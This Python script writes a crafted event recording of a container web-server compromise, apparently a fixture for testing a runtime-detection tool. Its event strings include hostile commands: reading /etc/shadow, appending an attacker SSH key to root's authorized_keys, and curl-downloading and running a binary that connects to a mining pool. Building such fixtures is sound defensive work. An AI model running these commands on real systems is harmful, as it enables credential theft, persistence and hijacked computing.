#!/usr/bin/env python3
"""Writes incident.jsonl: a crafted recording (the JSON Lines schema `vigil record` writes,
docs/events.md) of a web application compromise inside a container:

  nginx worker (root in a container) -> sh -c (web shell)
    -> cat /etc/shadow                      (credential theft)
    -> sh appends a key to /root/.ssh/authorized_keys   (persistence)
    -> curl downloads /tmp/.k, chmod +x, runs it          (dropped binary)
    -> /tmp/.k connects to a stratum mining pool on :3333 (impact)

Run it to regenerate the file; the committed incident.jsonl is its output."""
import json
import sys

CGROUP = "/system.slice/docker-4f1c2a9be7d05c3a8e6b1f2d9c0a7e4b5d6f8a1c2e3b4d5f6a7b8c9d0e1f2a3b.scope"
T0 = 1732464000_000000000  # 2024-11-24T16:00:00Z
lines = []
clock = [T0]


def tick(ms=5):
    clock[0] += ms * 1_000_000
    return clock[0]


def emit(evt_type, pid, res=0, args=None, **extra):
    ev = {"evt.type": evt_type, "evt.time": tick(), "evt.res": res, "evt.cpu": 0,
          "proc.pid": pid, "thread.tid": pid, "evt.args": args or {}}
    ev.update(extra)
    lines.append(ev)


def snapshot(pid, ppid, name, exepath, args, uid=0):
    return {"pid": pid, "ppid": ppid, "sid": 1, "pgid": 1, "vpid": pid - 700, "vpgid": 1,
            "uid": uid, "gid": uid, "euid": uid, "egid": uid, "loginuid": 4294967295, "tty": 0,
            "name": name, "exe": name, "exepath": exepath, "args": args, "cwd": "/var/www/html",
            "env": [], "cgroup": CGROUP, "from_snapshot": True}


def spawn(parent, child, comm, exepath, argv, **exec_extra):
    emit("clone", parent, res=child,
         fork={"child_tid": child, "child_tgid": child, "flags": 17})
    x = {"filename": exepath, "exepath": exepath, "comm": comm, "args": argv, "env": [],
         "cwd": "/var/www/html", "cgroup": CGROUP, "ppid": parent, "uid": 0, "gid": 0,
         "euid": 0, "egid": 0, "vpid": child - 700}
    x.update(exec_extra)
    emit("execve", child, args={"filename": exepath}, exec=x)


def connect(pid, fd, dip, dport, sport):
    emit("socket", pid, res=fd, args={"domain": 2, "type": 1, "proto": 6})
    emit("connect", pid, res=-115, args={"fd": fd},
         tuple={"family": 2, "l4proto": 6, "sip": "172.17.0.2", "sport": sport,
                "dip": dip, "dport": dport})


# The worker already runs when the recording starts: its snapshot rides on its first event.
emit("accept4", 801, res=12, args={"fd": 6, "flags": 0},
     tuple={"family": 2, "l4proto": 6, "sip": "172.17.0.2", "sport": 80,
            "dip": "198.51.100.23", "dport": 51234},
     proc=snapshot(801, 800, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"]))
# 1. the web shell
spawn(801, 900, "sh", "/usr/bin/dash", ["sh", "-c", "id;cat /etc/shadow;echo ssh-ed25519 AAAA attacker >> /root/.ssh/authorized_keys"])
# 2. credential theft
spawn(900, 901, "cat", "/usr/bin/cat", ["cat", "/etc/shadow"])
emit("openat", 901, res=3, args={"dirfd": -100, "name": "/etc/shadow", "flags": 524288, "mode": 0})
emit("close", 901, res=0, args={"fd": 3})
emit("procexit", 901, exit_code=0)
# 3. persistence: the shell's own >> redirection
emit("openat", 900, res=3, args={"dirfd": -100, "name": "/root/.ssh/authorized_keys", "flags": 1089, "mode": 0o644})
emit("close", 900, res=0, args={"fd": 3})
# 4. download, chmod, run
spawn(900, 902, "curl", "/usr/bin/curl", ["curl", "-so", "/tmp/.k", "http://203.0.113.50/k"])
connect(902, 5, "203.0.113.50", 80, 41000)
emit("openat", 902, res=6, args={"dirfd": -100, "name": "/tmp/.k", "flags": 577, "mode": 0o644})
emit("procexit", 902, exit_code=0)
spawn(900, 903, "chmod", "/usr/bin/chmod", ["chmod", "+x", "/tmp/.k"])
emit("fchmodat", 903, res=0, args={"dirfd": -100, "filename": "/tmp/.k", "mode": 0o755})
emit("procexit", 903, exit_code=0)
spawn(900, 904, ".k", "/tmp/.k", ["/tmp/.k", "-B"], exe_writable=True)
# 5. the payload talks to a mining pool
connect(904, 3, "198.51.100.77", 3333, 41001)

out = open(sys.argv[1] if len(sys.argv) > 1 else "incident.jsonl", "w")
for ev in lines:
    out.write(json.dumps(ev, separators=(",", ":")) + "\n")
